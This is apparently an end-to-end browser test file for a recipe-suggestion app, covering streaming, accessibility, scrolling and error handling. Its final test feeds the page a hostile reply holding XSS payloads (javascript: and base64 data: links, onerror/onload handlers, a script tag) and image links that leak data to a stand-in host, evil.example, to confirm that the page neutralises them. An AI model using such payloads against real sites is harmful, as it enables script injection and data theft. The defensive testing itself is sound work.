import { expect, test } from "vitest";
import { errorMessage } from "../../src/core/errors.ts";
import { DEFAULT_RECIPE, gate } from "../fake-upstream.ts";
import { addIngredients, expectAccessible, expectAccessibleLightAndDark, ingredientNames, setUpBrowserWorld } from "./harness.ts";

const world = setUpBrowserWorld();
const { open } = world;

const LONG_RECIPE = `${DEFAULT_RECIPE}\n## Notes\n\n${"Season to taste and serve warm. ".repeat(60)}\n\n| Step | Minutes |\n| --- | --- |\n| Prep | 5 |\n| Cook | 10 |\n\n\`\`\`\nkeep it simple\n\`\`\`\n`;

test("the whole flow works and stays accessible (light and dark)", async () => {
  world.upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 40, delayMs: 15 });
  const { page, consoleErrors } = await open();
  await expectAccessibleLightAndDark(page, "empty");
  await expect.poll(() => page.getByText("Recipes written by test/chef-model").count()).toBe(1);

  await addIngredients(page, ["  eggs ", "spinach", "feta"]);
  await expect.poll(() => ingredientNames(page)).toEqual(["eggs", "spinach", "feta"]);
  expect(await page.getByRole("button", { name: "Get a recipe" }).count()).toBe(0);
  await expectAccessibleLightAndDark(page, "three ingredients");

  await addIngredients(page, ["EGGS", ""]);
  expect(await ingredientNames(page)).toHaveLength(3);
  await expectAccessibleLightAndDark(page, "refused input");

  await addIngredients(page, ["onion"]);
  await expect.poll(async () => (await ingredientNames(page)).length).toBe(4);
  await expectAccessibleLightAndDark(page, "call to action");

  await page.getByRole("button", { name: "Get a recipe" }).click();
  const panel = page.getByRole("region", { name: "Chef recommends" });
  await panel.getByRole("heading", { name: "Spinach and Feta Omelette" }).waitFor();
  await expectAccessibleLightAndDark(page, "streaming");
  await expect.poll(() => panel.getAttribute("aria-busy")).toBe("false");
  expect(await panel.getByRole("table").count()).toBe(1);
  expect(await panel.locator("pre code").textContent()).toContain("keep it simple");
  expect(await page.getByRole("button", { name: "Get a recipe" }).getAttribute("aria-disabled")).toBe("false");
  await expectAccessibleLightAndDark(page, "recipe shown");
  expect(consoleErrors).toEqual([]);
});

test("the reply streams in: text shows while the upstream is still sending", async () => {
  // The upstream holds the rest of the reply until the test has seen its beginning on the page.
  const rest = gate();
  world.upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 20, pauseAfter: { chars: 100, until: rest.until } });
  const { page } = await open();
  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
  await page.getByRole("button", { name: "Get a recipe" }).click();
  await page.getByRole("heading", { name: "Spinach and Feta Omelette" }).waitFor();
  expect(world.upstream.requests[0]?.finished).toBe(false);
  expect(await page.getByRole("button", { name: "Get a recipe" }).getAttribute("aria-disabled")).toBe("true");
  rest.open();
  await page.getByRole("button", { name: "Get a recipe" }).and(page.locator('[aria-disabled="false"]')).waitFor();
  expect(world.upstream.requests[0]?.finished).toBe(true);
});

// Issue 25: while the first words are on their way the page holds the recipe panel, mounted and hidden,
// so that their frame does not mount it: nothing of it is seen, announced or reachable until they come.
test("while the first words are on their way, the waiting page shows and exposes only the status (light and dark)", async () => {
  const held = gate();
  world.upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 20, pauseAfter: { chars: 0, until: held.until } });
  const { page } = await open();
  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
  await page.getByRole("button", { name: "Get a recipe" }).click();
  await page.getByRole("status").filter({ hasText: "The chef is cooking up a recipe…" }).waitFor();
  // The panel is in the page (its heading's text is), but hidden: no region, heading or Stop to reach. The one Stop is the
  // status line's, which a slow model's wait needs (probe33).
  await page.locator("section.suggested-recipe-container").waitFor({ state: "attached" });
  expect(await page.locator("section.suggested-recipe-container").isHidden()).toBe(true);
  expect(await page.getByRole("region", { name: "Chef recommends" }).count()).toBe(0);
  expect(await page.getByRole("button", { name: "Stop" }).count()).toBe(1);
  expect(await page.locator(".cooking-status-row").getByRole("button", { name: "Stop" }).count()).toBe(1);
  await expectAccessibleLightAndDark(page, "waiting for the first words");
  held.open();
  await page.getByRole("region", { name: "Chef recommends" }).getByRole("heading", { name: "Spinach and Feta Omelette" }).waitFor();
  await page.getByRole("button", { name: "Get a recipe" }).and(page.locator('[aria-disabled="false"]')).waitFor();
});

// The spec scrolled to the ingredient list, which on a phone left only the recipe's title (or nothing
// of it) in view; issue 23 asks for the recipe's start instead.
test("when the recipe arrives the page brings the recipe's start into view", async () => {
  for (const reducedMotion of ["no-preference", "reduce"] as const) {
    const { page } = await open({ reducedMotion, viewport: { width: 400, height: 500 } });
    // Room above the recipe, so scrolling to it is visible, and below it, so a short reply can still reach
    // the top of the viewport (set through the CSSOM, which the CSP allows).
    await page.evaluate(() => {
      document.querySelector("main")?.style.setProperty("padding-top", "1500px");
      document.querySelector("main")?.style.setProperty("padding-bottom", "1500px");
    });
    await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
    await page.evaluate(() => window.scrollTo(0, 0));
    // The first words arrive alone, and the rest waits until the scroll has been seen.
    const rest = gate();
    world.upstream.queue({ kind: "stream", text: LONG_RECIPE, chunkSize: 20, pauseAfter: { chars: 40, until: rest.until } });
    await page.getByRole("button", { name: "Get a recipe" }).click();
    await page.getByRole("region", { name: "Chef recommends" }).waitFor();
    // Its start at the top of the viewport, not the ingredient list's (a smooth scroll may pass it
    // briefly on the way). The room below matters: the first words can arrive alone, and a page that
    // ended just under them could not scroll them any higher.
    const startAtTop = () =>
      page.evaluate(() => {
        const top = document.querySelector(".recipe-view")?.getBoundingClientRect().top ?? -1;
        return top >= 0 && top < 100;
      });
    await expect.poll(startAtTop).toBe(true);
    rest.open();
    await page.getByRole("button", { name: "Get a recipe" }).and(page.locator('[aria-disabled="false"]')).waitFor();
  }
});

test("upstream failures show an alert in plain words and keep the list", async () => {
  const watched = await open();
  const { page } = watched;
  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
  for (const [behaviour, code] of [
    [{ kind: "status", status: 401 }, "bad_credentials"],
    [{ kind: "status", status: 402 }, "out_of_credits"],
    [{ kind: "status", status: 404 }, "model_unavailable"],
  ] as const) {
    world.upstream.queue(behaviour);
    await page.getByRole("button", { name: "Get a recipe" }).click();
    await expect.poll(() => page.getByRole("alert").textContent()).toContain(errorMessage(code));
    expect(await page.getByRole("region", { name: "Chef recommends" }).count()).toBe(0);
    expect(await ingredientNames(page)).toEqual(["eggs", "spinach", "feta", "onion"]);
    await expectAccessible(page, `error ${code}`);
  }
  // Chromium logs every non-2xx response; these three are the point of the test.
  expect(watched.consoleErrors.splice(0)).toEqual(Array(3).fill("Failed to load resource: the server responded with a status of 502 (Bad Gateway)"));
});

test("a hostile reply cannot run script, leave the page or fetch images", async () => {
  world.upstream.queue({
    kind: "stream",
    text: [
      "# Totally a recipe",
      "[click](javascript:window.__pwned=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      "",
      "![x](https://evil.example/leak?eggs) ![y](//evil.example/y.png)",
      "",
      '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script> <svg onload="window.__pwned=1"></svg>',
      "",
      "[ok](https://example.com)",
    ].join("\n"),
  });
  const { page } = await open();
  await addIngredients(page, ["eggs", "spinach", "feta", "onion"]);
  await page.getByRole("button", { name: "Get a recipe" }).click();
  const panel = page.getByRole("region", { name: "Chef recommends" });
  await panel.getByRole("link", { name: "ok" }).waitFor();
  await page.getByText("click", { exact: true }).click();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await panel.locator("img, script, svg, iframe").count()).toBe(0);
  const handlers = await panel.evaluate((root) =>
    [...root.querySelectorAll("*")].flatMap((element) => [...element.attributes].map((a) => a.name)).filter((name) => name.startsWith("on")),
  );
  expect(handlers).toEqual([]);
  expect(await panel.getByRole("link").count()).toBe(1);
});
